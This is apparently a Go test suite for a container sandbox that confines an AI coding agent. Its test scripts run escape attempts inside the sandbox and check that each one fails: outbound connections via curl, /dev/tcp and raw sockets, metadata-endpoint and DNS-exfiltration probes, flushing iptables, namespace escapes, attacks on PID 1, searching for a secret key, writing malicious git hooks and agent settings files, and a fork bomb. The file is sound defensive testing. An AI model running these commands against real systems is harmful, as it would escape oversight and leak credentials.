package sandbox

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/org/claude-sandbox/firewall"
	"github.com/org/claude-sandbox/internal/engine"
	"github.com/org/claude-sandbox/internal/exitcode"
	"github.com/org/claude-sandbox/internal/test/testenv"
	"github.com/org/claude-sandbox/internal/test/workspacetest"
	"github.com/org/claude-sandbox/sandbox/runplan"
	"github.com/org/claude-sandbox/settings"
	"github.com/org/claude-sandbox/workspace"
)

// outside is a server on the engine's bridge: what an agent would reach if
// nothing stopped it. It counts what arrives.
type outside struct {
	addr     netip.Addr
	tcp, udp uint16
	arrived  atomic.Int64
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	bridge, err := net.InterfaceByName("docker0")
	if err != nil {
		testenv.Missing(t, "the engine's bridge docker0", err.Error())
	}
	addrs, err := bridge.Addrs()
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			o.addr = p.Addr()
		}
	}
	if !o.addr.IsValid() {
		testenv.Missing(t, "an IPv4 address on docker0", fmt.Sprint(addrs))
	}
	o.listen(t)
	return o
}

// listen serves on o.addr until the test ends.
func (o *outside) listen(t *testing.T) {
	t.Helper()
	l, err := net.Listen("tcp", netip.AddrPortFrom(o.addr, 0).String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	o.tcp = uint16(l.Addr().(*net.TCPAddr).Port)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			o.arrived.Add(1)
			_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nreached\n")
			c.Close()
		}
	}()
	p, err := net.ListenPacket("udp", netip.AddrPortFrom(o.addr, 0).String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	o.udp = uint16(p.LocalAddr().(*net.UDPAddr).Port)
	go func() {
		buf := make([]byte, 1500)
		for {
			if _, _, err := p.ReadFrom(buf); err != nil {
				return
			}
			o.arrived.Add(1)
		}
	}()
}

// attempts is a script that knocks at the outside in every way it can.
func (o *outside) attempts() string {
	return fmt.Sprintf(`
curl -sS --max-time 3 http://%[1]s:%[2]d/
(echo x > /dev/tcp/%[1]s/%[2]d)
echo x > /dev/udp/%[1]s/%[3]d
python3 - <<'PY'
import socket
for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP), (socket.AF_PACKET, socket.SOCK_RAW, 0), `+
		`(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
    try:
        s = socket.socket(family, kind, proto)
        s.sendto(b"x", ("%[1]s", %[3]d))
        print("OPENED", family, kind)
    except OSError as e:
        print("refused", e)
PY
`, o.addr, o.tcp, o.udp)
}

func TestControlTheOutsideIsReachableWhenAllowed(t *testing.T) {
	e, o := connect(t), newOutside(t)
	tr := (&trial{options: allow(shell(fmt.Sprintf("curl -sS --max-time 5 http://%s:%d/", o.addr, o.tcp)),
		fmt.Sprintf("%s:%d", o.addr, o.tcp))}).run(t, e)
	if !strings.Contains(tr.stdout.String(), "reached") || o.arrived.Load() == 0 {
		t.Errorf("an allowed address is not reached, so the attacks below prove nothing: %q, %q", tr.stdout.String(), tr.stderr.String())
	}
}

func TestDeniedDestinationsAreNotReached(t *testing.T) {
	e, o := connect(t), newOutside(t)
	tr := (&trial{options: shell(o.attempts() + `
probe() { if "$@" >/dev/null 2>&1; then echo "REACHED $*"; else echo "stopped $*"; fi; }
probe curl --max-time 3 http://169.254.169.254/latest/meta-data/
probe curl --max-time 3 https://denied.example.com
probe curl --max-time 3 https://1.1.1.1
probe curl --max-time 3 -6 "https://[2606:4700:4700::1111]/"
probe curl --max-time 3 http://$(ip route | sed -n 's/^default via \([^ ]*\).*/\1/p'):2375/version
dig +time=2 +tries=1 @` + o.addr.String() + ` denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
dig +time=2 +tries=1 +tcp @8.8.8.8 denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
dig +time=2 +tries=1 TXT secret-data-in-a-name.denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
`)}).run(t, e)
	out := tr.stdout.String()
	if n := o.arrived.Load(); n != 0 {
		t.Errorf("%d packets or connections arrived outside:\n%s", n, out)
	}
	if strings.Contains(out, "REACHED") || strings.Contains(out, "OPENED") || strings.Contains(out, "reached") {
		t.Errorf("something was reached:\n%s\n%s", out, tr.stderr.String())
	}
	if strings.Count(out, "stopped") != 5 || strings.Count(out, "dns REFUSED") != 3 {
		t.Errorf("not every attempt was made and answered:\n%s\n%s", out, tr.stderr.String())
	}
}

// TestIPv6IsClosedToo: a firewall of IPv4 alone is none on a network with both.
func TestIPv6IsClosedToo(t *testing.T) {
	e := connect(t)
	docker := testenv.Program(t, "docker")
	name := fmt.Sprintf("sbx-sandbox-test-v6-%d", os.Getpid())
	if out, err := exec.Command(docker, "network", "create", "--ipv6", "--subnet", "fd5b:7a11::/64", "--gateway", "fd5b:7a11::1",
		name).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	t.Cleanup(func() {
		if out, err := exec.Command(docker, "network", "rm", name).CombinedOutput(); err != nil {
			t.Errorf("%v: %s", err, out)
		}
	})
	// The bridge uses its address once somebody is attached to it.
	ctx := context.Background()
	holder, err := e.Create(ctx, engine.Spec{
		Name: name, Image: testImage(t, e),
		Process: engine.Process{Entrypoint: []string{"sleep", "infinity"}}, Link: engine.Link{Network: name},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := e.Remove(ctx, holder); err != nil {
			t.Error(err)
		}
	})
	if err := e.Start(ctx, holder); err != nil {
		t.Fatal(err)
	}
	o := &outside{addr: netip.MustParseAddr("fd5b:7a11::1")}
	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(50 * time.Millisecond) {
		l, err := net.Listen("tcp", netip.AddrPortFrom(o.addr, 0).String())
		if err == nil {
			l.Close()
			break
		}
		if time.Now().After(deadline) {
			t.Fatal(err)
		}
	}
	o.listen(t)
	network := func(p *runplan.Plan) { p.Sidecar.Network = name }
	script := fmt.Sprintf("ip -6 addr show scope global | grep -o fd5b:; curl -sS -g --max-time 5 'http://[%s]:%d/'; echo x > /dev/udp/%s/%d",
		o.addr, o.tcp, o.addr, o.udp)

	tr := (&trial{options: shell(script), adjust: network}).run(t, e)
	if n := o.arrived.Load(); n != 0 || strings.Contains(tr.stdout.String(), "reached") {
		t.Errorf("%d arrived over IPv6: %q", n, tr.stdout.String())
	}
	if !strings.Contains(tr.stdout.String(), "fd5b:") {
		t.Errorf("the sandbox has no IPv6 address, so this proves nothing: %q, %q", tr.stdout.String(), tr.stderr.String())
	}
	tr = (&trial{options: allow(shell(script), fmt.Sprintf("[%s]:%d", o.addr, o.tcp)), adjust: network}).run(t, e)
	if !strings.Contains(tr.stdout.String(), "reached") {
		t.Errorf("an allowed address is not reached over IPv6: %q, %q", tr.stdout.String(), tr.stderr.String())
	}
}

func TestNetworkNoneReachesNothing(t *testing.T) {
	e, o := connect(t), newOutside(t)
	options := shell(o.attempts() + "ls /sys/class/net")
	options.User.Network.Mode = "none"
	tr := (&trial{options: options}).run(t, e)
	if n := o.arrived.Load(); n != 0 || tr.err != nil {
		t.Errorf("%d arrived, %v", n, tr.err)
	}
	if out := tr.stdout.String(); !strings.HasSuffix(out, "\nlo\n") {
		t.Errorf("the interfaces are %q", out)
	}
}

// Attack: a run that only learns what it needs (mode audit) reaches the engine's
// host. The control is mode host, which says what it is.
func TestModeAuditKeepsTheEnginesHostClosed(t *testing.T) {
	e, o := connect(t), newOutside(t)
	options := shell(o.attempts())
	options.User = settings.Settings{Network: firewall.Network{Mode: firewall.ModeAudit}}
	tr := (&trial{options: options}).run(t, e)
	if n := o.arrived.Load(); n != 0 || strings.Contains(tr.stdout.String(), "reached") {
		t.Errorf("%d packets or connections arrived at the engine's host:\n%s\n%s", n, tr.stdout.String(), tr.stderr.String())
	}
	if !strings.Contains(strings.Join(tr.said, "\n"), "the whole internet is open") {
		t.Errorf("nobody says what mode audit is: %q", tr.said)
	}
	options.User, options.AcceptNoFirewall = settings.Settings{Network: firewall.Network{Mode: firewall.ModeHost}}, true
	tr = (&trial{options: options}).run(t, e)
	if !strings.Contains(tr.stdout.String(), "reached") || !strings.Contains(strings.Join(tr.said, "\n"), "NO FIREWALL") {
		t.Errorf("mode host is closed, so the attack above proves nothing, or not said aloud: %q, %q", tr.stdout.String(), tr.said)
	}
}

// Attack: the agent's user against the first process of its own container, which
// holds the output of the run and its token, with what it finds in the image. The
// system calls that no program there makes are tried beside sbx-init itself.
func TestTheContainersFirstProcessIsOutOfReach(t *testing.T) {
	e := connect(t)
	tr := (&trial{options: shell(`for n in $(seq 1 64); do trap '' $n; done # which the first process passes on to us
for f in environ mem maps fd/0 fd/1 fd/2; do cat /proc/1/$f >/dev/null 2>&1 && echo "OPENED $f"; done
for f in fd cwd/. root/.; do ls /proc/1/$f >/dev/null 2>&1 && echo "OPENED $f"; done
echo forged >/proc/1/fd/1 && echo "WROTE"
echo x >/.sbx/x && echo "WROTE beside it"; echo x >/.sbx/sbx-init && echo "WROTE over it"
cat /.sbx/sbx-init >/dev/null && echo "OPENED its file"
(umount /.sbx || mount --bind /tmp /.sbx || mv /.sbx /.sbx2) && echo "MOVED it"
for n in $(seq 1 64); do kill -$n 1; done
prlimit --version >/dev/null && { prlimit --pid 1 --cpu=1:1 && echo "LIMITED" || echo "limits are refused"; }
sleep 0.2
case $(cut -d' ' -f3 /proc/1/stat) in [RSD]) echo "it lives";; esac
`)}).run(t, e)
	out := tr.stdout.String()
	for _, broken := range []string{"OPENED", "WROTE", "forged", "MOVED", "LIMITED"} {
		if strings.Contains(out, broken) {
			t.Errorf("%s:\n%s\n%s", broken, out, tr.stderr.String())
		}
	}
	if !strings.Contains(out, "it lives") || !strings.Contains(out, "limits are refused") {
		t.Errorf("the script did not come to its end:\n%s\n%s", out, tr.stderr.String())
	}
}

// Attack: sockets to the host of the virtual machine that the engine runs in,
// and of other families that no packet filter sees.
func TestSocketsThatNoPacketFilterSeesAreRefused(t *testing.T) {
	e := connect(t)
	tr := (&trial{options: shell(`python3 - <<'PY'
import socket
for family in (40, 38, 31, 30, 29, 21, 44):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try: socket.socket(family, kind); print("OPENED", family, kind)
        except OSError as e: print("refused", e)
try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); print("OPENED netfilter")
except OSError as e: print("refused", e)
print("and", socket.getaddrinfo("localhost", 80, socket.AF_INET)[0][4][0], "works")
PY
`)}).run(t, e)
	if out := tr.stdout.String(); strings.Contains(out, "OPENED") || strings.Count(out, "refused") != 22 ||
		!strings.Contains(out, "and 127.0.0.1 works") {
		t.Errorf("%s\n%s", out, tr.stderr.String())
	}
}

func TestTheAgentCannotUndoTheFirewall(t *testing.T) {
	e, o := connect(t), newOutside(t)
	tr := (&trial{options: shell(`
trap '' TERM # which the container's first process passes on to us
iptables -P OUTPUT ACCEPT; iptables -F; iptables-legacy -F; ip6tables -F; ipset destroy
ip link add x type dummy; ip route del default
unshare -Urn true && echo "NEW NETWORK NAMESPACE"
unshare -Ur iptables -F && echo "FLUSHED"
nsenter -t 1 -n true && echo "ENTERED"
kill -9 1
killall sbx-init; pkill sbx-init
ps -e -o args= | grep -e '[-]-sidecar' && echo "SEES THE FIREWALL"
ls /var/run/docker.sock /run/docker.sock && echo "ENGINE"
mount -t tmpfs x /mnt && echo "MOUNTED"
echo x > /proc/sys/net/ipv4/ip_forward && echo "SYSCTL"
grep -q 'NoNewPrivs:.1' /proc/self/status && echo "no new privileges"
` + o.attempts())}).run(t, e)
	out := tr.stdout.String()
	for _, broken := range []string{"FLUSHED", "ENTERED", "SEES", "ENGINE", "MOUNTED", "SYSCTL", "OPENED", "reached", "uid=0"} {
		if strings.Contains(out, broken) {
			t.Errorf("%s:\n%s\n%s", broken, out, tr.stderr.String())
		}
	}
	if !strings.Contains(out, "no new privileges") || !strings.Contains(out, "refused") {
		t.Errorf("the script did not come to its end:\n%s\n%s", out, tr.stderr.String())
	}
	if n := o.arrived.Load(); n != 0 {
		t.Errorf("%d arrived outside", n)
	}
}

// TestTheKeyIsNowhereToBeFound looks for the canary key from inside, in what
// the engine tells about both containers, and in the command lines of this
// machine, while the agent runs.
func TestTheKeyIsNowhereToBeFound(t *testing.T) {
	e := connect(t)
	docker := testenv.Program(t, "docker")
	prompt, finish := io.Pipe()
	tr := &trial{
		prompt: prompt,
		options: shell(`
part='canary-5f2c8e1b[7]a904d36' # does not match itself in a command line
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a "$part" && echo FOUND
env | grep -a "$part" && echo FOUND
grep -ra "$part" /etc /home /run /tmp /var /workspace /usr/local/sbin 2>/dev/null && echo FOUND
curl -sS --max-time 5 -H "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN" -H 'content-type: application/json' -d '{"model":"m",` +
			`"max_tokens":1,"messages":[{"role":"user","content":"x"}]}' http://127.0.0.1:8790/v1/messages | grep -a "$part" && echo FOUND
curl -sS --max-time 5 -o /dev/null -w 'without token %{http_code}\n' -d '{}' http://127.0.0.1:8790/v1/messages
curl -sS --max-time 5 -H "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN" -o /dev/null -w 'elsewhere %{http_code}\n' ` +
			`http://127.0.0.1:8790/v1/files
echo ready; cat`),
	}
	tr.during = func(p *runplan.Plan, _ *workspace.Workspace) {
		defer finish.Close()
		for _, name := range []string{p.Sidecar.Name, p.Agent.Name} {
			text, err := exec.Command(docker, "inspect", name).CombinedOutput()
			if err != nil {
				t.Errorf("inspecting %s: %v: %s", name, err, text)
			}
			if strings.Contains(string(text), canary) {
				t.Errorf("docker inspect %s shows the key", name)
			}
		}
		lines, err := filepath.Glob("/proc/[0-9]*/cmdline")
		if err != nil || len(lines) < 5 {
			t.Errorf("found %d command lines, %v", len(lines), err)
		}
		for _, file := range lines {
			if text, err := os.ReadFile(file); err == nil && strings.Contains(string(text), canary) {
				t.Errorf("%s shows the key: %q", file, text)
			}
		}
	}
	tr.run(t, e)
	out := tr.stdout.String()
	if strings.Contains(out, "FOUND") || strings.Contains(out, canary) {
		t.Errorf("the key was found inside:\n%s", out)
	}
	if !strings.Contains(out, "without token 401") || !strings.Contains(out, "elsewhere 40") {
		t.Errorf("the proxy let something through:\n%s\n%s", out, tr.stderr.String())
	}
	for _, file := range []string{tr.result.Files.Audit, tr.result.Files.Summary, tr.result.Files.Transcript} {
		if text, err := os.ReadFile(file); err != nil || strings.Contains(string(text), canary) {
			t.Errorf("%s shows the key, %v", file, err)
		}
	}
}

// Attack: fill the host's disk by printing. The engine would keep it all, and some
// 70 bytes for each line feed.
func TestWhatTheAgentPrintsIsNotKeptByTheEngine(t *testing.T) {
	e := connect(t)
	docker := testenv.Program(t, "docker")
	prompt, finish := io.Pipe()
	tr := &trial{prompt: prompt, options: shell("yes '' | head -c 200000 >&2; echo ready; cat")}
	tr.during = func(p *runplan.Plan, _ *workspace.Workspace) {
		defer finish.Close()
		out, err := exec.Command(docker, "inspect", "-f", "{{.LogPath}}", p.Agent.Name).CombinedOutput()
		if err != nil {
			t.Errorf("%v: %s", err, out)
		}
		if log := strings.TrimSpace(string(out)); log != "" {
			info, err := os.Stat(log)
			t.Errorf("the engine keeps %s: %+v, %v", log, info, err)
		}
	}
	tr.run(t, e)
	if n := strings.Count(tr.stderr.String(), "\n"); n != 200_000 {
		t.Errorf("%d lines of 200000 arrived", n)
	}
}

// Attack: talk to a program of the host at its socket in the project, or write to
// a pipe that it reads. No packet filter sees that.
func TestNoSocketInTheProjectLeadsToAProgramOfTheHost(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("sockets of this machine are not reachable from the engine's")
	}
	e := connect(t)
	dir := newProject(t, true)
	arrived := make(chan string, 2)
	listen := func(name string) net.Listener {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o777); err != nil {
			t.Fatal(err)
		}
		l, err := net.Listen("unix", filepath.Join(dir, name))
		if err == nil {
			err = os.Chmod(filepath.Join(dir, name), 0o777)
		}
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				text, _ := io.ReadAll(c)
				arrived <- name + ": " + string(text)
			}
		}()
		return l
	}
	// The control is a socket that the run does not see when it begins.
	knock := `python3 - <<'PY'
import socket
try:
    s = socket.socket(socket.AF_UNIX); s.connect("%s"); s.sendall(b"let me out"); print("REACHED")
except OSError as e: print("refused", e)
PY
`
	tr := &trial{dir: dir, options: shell(fmt.Sprintf(knock, "/workspace/tmp/dev.sock") +
		"rm -f tmp/dev.sock || echo it stays; echo ready; until test -S late.sock; do sleep 0.1; done; " +
		fmt.Sprintf(knock, "/workspace/late.sock"))}
	listen("tmp/dev.sock")
	tr.during = func(*runplan.Plan, *workspace.Workspace) {
		select {
		case what := <-arrived:
			t.Errorf("a program of the host heard %q", what)
		default:
		}
		listen("late")
		if err := os.Rename(filepath.Join(dir, "late"), filepath.Join(dir, "late.sock")); err != nil {
			t.Error(err)
		}
	}
	tr.run(t, e)
	if out := tr.stdout.String(); !strings.HasPrefix(out, "refused") || !strings.HasSuffix(out, "REACHED\n") ||
		!strings.Contains(out, "it stays") {
		t.Errorf("the agent says %q, %q", out, tr.stderr.String())
	}
	if said := strings.Join(tr.said, "\n"); !strings.Contains(said, "tmp/dev.sock: sockets or pipes") {
		t.Errorf("nobody is told: %q", said)
	}
	if tr.err != nil || tr.result.ExitCode != exitcode.Failed {
		t.Errorf("the run ended with %d, %v", tr.result.ExitCode, tr.err)
	}
}

func TestProtectedPathsCannotBeWritten(t *testing.T) {
	e := connect(t)
	tr := (&trial{git: true, options: shell(`
cd /workspace
try() { if "$@" 2>/dev/null; then echo "DONE $*"; else echo "stopped $*"; fi; }
mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo evil > .git/hooks/post-checkout; echo evil > .git/config; ` +
		`echo ../evil > .git/commondir; echo evil > .git/config.worktree
try sh -c 'echo evil > .devcontainer/devcontainer.json'
try sh -c 'echo evil > .devcontainer.json'
try sh -c 'mkdir -p .vscode && echo evil > .vscode/tasks.json'
try sh -c 'echo evil > .claude/settings.json'
try sh -c 'echo evil > .claude/settings.local.json'
try mv .git old
try mv .claude old
try mv .devcontainer old
try rm -rf .devcontainer
try rmdir .vscode
try ln -sfT /tmp .vscode
try ln .git/config linked
try mount --bind /tmp .git
try umount .git
try rmdir .git
try rm -r .git
try umount -l .git
echo free > .git/HEAD.free && echo "git works"
echo free > free.txt && echo "the rest is free"
`)}).run(t, e)
	out := tr.stdout.String()
	if strings.Contains(out, "DONE") || strings.Count(out, "stopped") != 17 {
		t.Errorf("some attempt went through:\n%s\n%s", out, tr.stderr.String())
	}
	if !strings.Contains(out, "git works") || !strings.Contains(out, "the rest is free") {
		t.Errorf("the agent cannot work:\n%s\n%s", out, tr.stderr.String())
	}
	for name, want := range map[string]string{
		".git/hooks/pre-commit": "#!/bin/sh\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n", ".devcontainer/devcontainer.json": "{}",
	} {
		if text, err := os.ReadFile(filepath.Join(tr.dir, name)); err != nil || string(text) != want {
			t.Errorf("%s now holds %q, %v", name, text, err)
		}
	}
	for _, name := range []string{".git/commondir", ".git/config.worktree", ".vscode", ".devcontainer.json", ".claude"} {
		if _, err := os.Lstat(filepath.Join(tr.dir, name)); !os.IsNotExist(err) {
			t.Errorf("%s was left behind: %v", name, err)
		}
	}
}

// TestGitWorksBesideThePlaceholders: commit, branch and checkout must not mind
// what stands in for missing files, and a repository without a commit is one.
func TestGitWorksBesideThePlaceholders(t *testing.T) {
	e := connect(t)
	dir := t.TempDir()
	git := exec.Command(testenv.Program(t, "git"), "init", "-q", dir)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if os.Geteuid() == 0 {
		if out, err := exec.Command("chown", "-R", "1000:1000", dir).CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
	}
	tr := (&trial{dir: dir, options: shell(`
set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.com
echo one > file; git add -A; git commit -qm one; git checkout -qb topic; echo two > file; git commit -qam two
git status --porcelain; git ls-files; git log --format=%s`)}).run(t, e)
	if out := tr.stdout.String(); out != "file\ntwo\none\n" {
		t.Errorf("git says %q, %q, %v", out, tr.stderr.String(), tr.err)
	}
	check := exec.Command("git", "-c", "safe.directory=*", "-C", dir, "status", "--porcelain")
	if out, err := check.CombinedOutput(); err != nil || string(out) != "?? file\n" {
		t.Errorf("on the host git says %q, %v", out, err)
	}
}

// TestADeadFirewallOpensNothing kills the sidecar while the agent knocks: the
// agent is stopped and nothing arrives.
func TestADeadFirewallOpensNothing(t *testing.T) {
	e, o := connect(t), newOutside(t)
	tr := &trial{
		options: shell("echo ready; trap '' INT TERM; while :; do " +
			fmt.Sprintf("(echo x > /dev/tcp/%s/%d) 2>/dev/null; echo x > /dev/udp/%s/%d", o.addr, o.tcp, o.addr, o.udp) + "; done")}
	tr.during = func(p *runplan.Plan, _ *workspace.Workspace) {
		if err := e.Kill(context.Background(), p.Sidecar.Name, "KILL"); err != nil {
			t.Error(err)
		}
	}
	tr.run(t, e)
	if !errors.Is(tr.err, ErrFirewall) || tr.result.ExitCode != 70 || tr.result.Outcome.OK() {
		t.Errorf("got %v, exit code %d, %+v", tr.err, tr.result.ExitCode, tr.result.Outcome)
	}
	if n := o.arrived.Load(); n != 0 {
		t.Errorf("%d arrived outside", n)
	}
}

// TestTheNamespaceStaysClosedWithoutItsFirewall is the same without anybody
// who stops the agent: it lives on beside a dead sidecar.
func TestTheNamespaceStaysClosedWithoutItsFirewall(t *testing.T) {
	e, o := connect(t), newOutside(t)
	ctx := context.Background()
	image := testImage(t, e)
	p := plan(t, shell("sleep infinity"), workspacetest.Folder(t))
	p.Sidecar.Name, p.Sidecar.Image = fmt.Sprintf("sbx-sandbox-test-dead-%d-firewall", os.Getpid()), image
	s, err := createSidecar(ctx, e, p)
	if err != nil {
		t.Fatal(err)
	}
	defer e.Remove(ctx, s.id)
	if err := s.fill(ctx, e, p, Host{}); err != nil {
		t.Fatal(err)
	}
	if err := s.start(ctx, e, &Timings{}); err != nil {
		t.Fatal(err)
	}
	if err := s.closed(ctx); err != nil {
		t.Fatal(err)
	}
	if err := s.verified(ctx, &Timings{}); err != nil {
		t.Fatal(err)
	}
	id, err := e.Create(ctx, engine.Spec{
		Name: fmt.Sprintf("sbx-sandbox-test-dead-%d-agent", os.Getpid()), Image: image,
		Process: engine.Process{Entrypoint: []string{"sleep", "infinity"}, User: "1000:1000"},
		Link:    engine.Link{Network: "container:" + s.id},
		Rights:  engine.Rights{CapDrop: []string{"ALL"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer e.Remove(ctx, id)
	if err := e.Start(ctx, id); err != nil {
		t.Fatal(err)
	}
	if err := e.Kill(ctx, s.id, "KILL"); err != nil {
		t.Fatal(err)
	}
	select {
	case <-s.exit:
	case <-time.After(2 * time.Minute):
		t.Fatal("the sidecar does not die")
	}
	stream, err := e.Exec(ctx, id, engine.ExecSpec{Command: []string{"bash", "-c", o.attempts() + "echo end"}})
	if err != nil {
		t.Fatal(err)
	}
	defer stream.Close()
	var out strings.Builder
	if err := stream.Copy(&out, &out); err != nil {
		t.Fatal(err)
	}
	if n := o.arrived.Load(); n != 0 || strings.Contains(out.String(), "reached") || !strings.HasSuffix(out.String(), "end\n") {
		t.Errorf("%d arrived outside:\n%s", n, out.String())
	}
}

// TestAForkBombStaysInside: the limit of processes holds, and the run ends.
func TestAForkBombStaysInside(t *testing.T) {
	e := connect(t)
	tr := (&trial{options: shell(`python3 - <<'PY'
import os, time
n = 0
try:
    while n < 400:
        if os.fork() == 0:
            time.sleep(60)
        n += 1
except OSError as e:
    print("stopped", e)
print("started", n)
PY`), adjust: func(p *runplan.Plan) { p.Agent.Pids = 64 }}).run(t, e)
	var n int
	_, err := fmt.Sscanf(tr.stdout.String(), "stopped [Errno 11] Resource temporarily unavailable\nstarted %d", &n)
	if err != nil || n >= 64 {
		t.Errorf("%d processes were possible: %q, %q", n, tr.stdout.String(), tr.stderr.String())
	}
}
